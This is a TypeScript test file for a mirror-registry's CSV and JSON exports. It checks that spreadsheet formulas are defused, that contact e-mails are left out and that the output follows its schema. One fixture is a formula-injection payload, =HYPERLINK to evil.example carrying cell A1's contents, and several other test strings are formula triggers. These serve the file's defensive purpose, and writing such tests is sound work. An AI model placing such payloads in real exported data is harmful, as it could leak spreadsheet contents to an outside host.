/** The mirror list for firewalls and scripts: CSV round trip, defused formulas, JSON schema. */
import { Ajv } from "ajv";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  csvField,
  mirrorExport,
  mirrorExportSchema,
  ROW_KEYS,
  serializeExportCsv,
  serializeExportJson,
} from "../../src/core/exports/mirror-exports.ts";
import { loadRegistry } from "../../src/core/load.ts";
import type { StatusFile } from "../../src/core/types.ts";
import { registryMirrorFiles } from "./registry-files.ts";

const registry = loadRegistry();
const [first, second] = registry.mirrors.filter((m) => !m.private);
if (!first || !second) throw new Error("the real registry has public mirrors");
const hostileSponsor = '=HYPERLINK("https://evil.example/?"&A1,"click"), "quoted"\r\nnext line';
const mirrors = registry.mirrors.map((m) => (m === first ? { ...m, sponsor: hostileSponsor } : m));
const status: StatusFile = {
  checked_at: "2026-12-02T06:00:00Z",
  mirrors: {
    [first.name]: {
      state: "broken",
      reason: "down",
      checked_at: "2026-12-02T06:00:00Z",
      addresses: { ipv4: ["192.0.2.10", "192.0.2.11"], ipv6: ["2001:db8::1"] },
      lag_seconds: 600,
      history: {
        changes: [],
        days: [
          { day: "2026-12-01", checks: 48, ok: 47 },
          { day: "2026-12-02", checks: 13, ok: 12 },
        ],
      },
    },
  },
};

/** Every contact e-mail address of the real registry's files. */
function registryEmails(): string[] {
  const emails = registryMirrorFiles().flatMap(({ text }) =>
    [...text.matchAll(/^\s*email:\s*["']?([^\s"']+@[^\s"']+)/gm)].map((m) => m[1] ?? ""),
  );
  expect(emails.length).toBeGreaterThan(500);
  return emails;
}

describe("csvField", () => {
  it.each([
    ["=1+1", `"'=1+1"`],
    ["+1", `"'+1"`],
    ["-1", `"'-1"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\tx", `"'\tx"`],
    ["\rx", `"'\rx"`],
    ['a "b", c', '"a ""b"", c"'],
    ["Semi Hosting;=HYPERLINK(F1);", `"Semi Hosting;'=HYPERLINK(F1);"`],
    ["Berlin;=2+5;", `"Berlin;'=2+5;"`],
    ['a,"=1', `"a,""'=1"`],
    ["a\n-1\t@x;\t+1", `"a\n'-1\t'@x;'\t'+1"`],
    ["plain", '"plain"'],
    ["", '""'],
  ])("writes %j as %j", (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  it("leaves no cell a formula, whatever separator a spreadsheet splits on and however it reads quotes", () => {
    const trigger = /^[=+\-@\t\r]/;
    fc.assert(
      fc.property(fc.array(fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n,;" a'), maxLength: 12 })), (values) => {
        const line = values.map(csvField).join(",");
        for (const separator of [",", ";", "\t", "\n", "\r"]) {
          // The worst reading: quotes ignored, only stripped from a cell's start.
          for (const piece of line.split(separator)) expect(piece.replace(/^"+/, "")).not.toMatch(trigger);
        }
      }),
    );
  });
});

describe("the exports", () => {
  const data = mirrorExport(mirrors, status);

  it("have one row per public mirror, with the last check's addresses, state, lag and availability", () => {
    expect(data.mirrors.map((r) => r.name)).toEqual(registry.mirrors.filter((m) => !m.private).map((m) => m.name));
    const row = data.mirrors[0];
    expect(row).toMatchObject({
      name: first.name,
      ipv4: ["192.0.2.10", "192.0.2.11"],
      ipv6: ["2001:db8::1"],
      state: "broken",
      lag_seconds: 600,
      availability_30d: 96.72,
    });
    expect(data.mirrors[1]).toMatchObject({ name: second.name, ipv4: [], state: null, availability_30d: null });
  });

  it("round-trip through a CSV parser, a formula defused", () => {
    const csv = serializeExportCsv(data);
    expect(csv.endsWith("\r\n")).toBe(true);
    for (const email of registryEmails()) expect(csv).not.toContain(email);
    const rows: Record<string, string>[] = parse(csv, { columns: true, record_delimiter: "\r\n" });
    expect(rows).toHaveLength(data.mirrors.length);
    expect(rows[0]).toMatchObject({
      name: first.name,
      sponsor: `'${hostileSponsor}`,
      ipv4: "192.0.2.10 192.0.2.11",
      ipv6: "2001:db8::1",
      state: "broken",
      lag_seconds: "600",
      availability_30d: "96.72",
    });
    for (const [i, row] of rows.entries()) {
      const expected = data.mirrors[i];
      expect(row.protocols).toBe(expected?.protocols.join(" "));
      expect(row.https_url).toBe(expected?.urls.https ?? "");
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("as JSON, follow their schema and hold no contact e-mail address", () => {
    const json = serializeExportJson(data);
    const validate = new Ajv({ allowUnionTypes: true }).compile(mirrorExportSchema);
    expect(Object.keys(data.mirrors[0] ?? {})).toEqual(ROW_KEYS);
    expect(validate(JSON.parse(json)), JSON.stringify(validate.errors)).toBe(true);
    for (const email of registryEmails()) expect(json).not.toContain(email);
    expect(mirrorExport(mirrors, null).checked_at).toBeNull();
  });
});
